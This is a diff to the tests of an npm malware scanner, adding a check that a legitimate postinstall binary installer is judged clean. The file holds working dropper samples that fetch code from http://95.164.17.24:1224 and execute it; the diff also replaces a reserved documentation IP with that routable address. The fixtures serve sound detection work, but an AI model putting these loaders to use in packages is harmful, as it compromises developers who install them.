@@ -145,7 +145,7 @@ def test_dependency_confusion_recon_over_dns_at_install() -> None:
 def test_contagious_interview_style_loader_required_by_main() -> None:
     loader = ('const fs = require("fs"), os = require("os"), path = require("path"), request = require("request");\n'
               'const ex = require("child_process").exec;\n'
-              'const u = "http://" + "203.0.113.24" + ":1224";\n'
+              'const u = "http://" + "95.164.17.24" + ":1224";\n'
               'function dl() {\n'
               '  const p = path.join(os.homedir(), ".npl");\n'
               '  request.get(u + "/client/99", (e, r, body) => { fs.writeFileSync(p, body); ex(`python3 "${p}"`); });\n'
@@ -173,3 +173,22 @@ def test_npmrc_sent_to_a_discord_webhook_from_request_options() -> None:
     assert flows and "credential" in flows[0].detail["sources"]
     v, strong = verdict(npm_tgz("color-logs-fast", "1.0.0", {"index.js": stealer}))
     assert v == "malicious" and "package.bot-token-endpoint:critical" in strong, strong
+
+
+def test_prebuilt_binary_installer_with_callbacks_stays_clean() -> None:
+    installer = ('const https = require("https"), fs = require("fs"), { execSync } = require("child_process");\n'
+                 'const { version } = require("./package.json");\n'
+                 'const url = `https://github.com/acme/tool/releases/download/v${version}/tool-${process.platform}.tgz`;\n'
+                 'https.get(url, (res) => {\n'
+                 '  const f = fs.createWriteStream("tool.tgz");\n'
+                 '  res.pipe(f);\n'
+                 '  f.on("finish", () => execSync("tar xzf tool.tgz -C bin"));\n'
+                 '});\n')
+    data = npm_tgz("acme-tool", "3.2.0", {"index.js": "module.exports = require('./bin/tool');\n",
+                                          "install.js": installer}, scripts={"postinstall": "node install.js"})
+    v, strong = verdict(data)
+    assert v == "clean", strong
+    dropper = installer.replace("https://github.com/acme/tool/releases/download", "http://95.164.17.24:1224")
+    data = npm_tgz("acme-tool", "3.2.1", {"index.js": "module.exports = require('./bin/tool');\n",
+                                          "install.js": dropper}, scripts={"postinstall": "node install.js"})
+    assert "package.download-exec:critical" in verdict(data)[1]
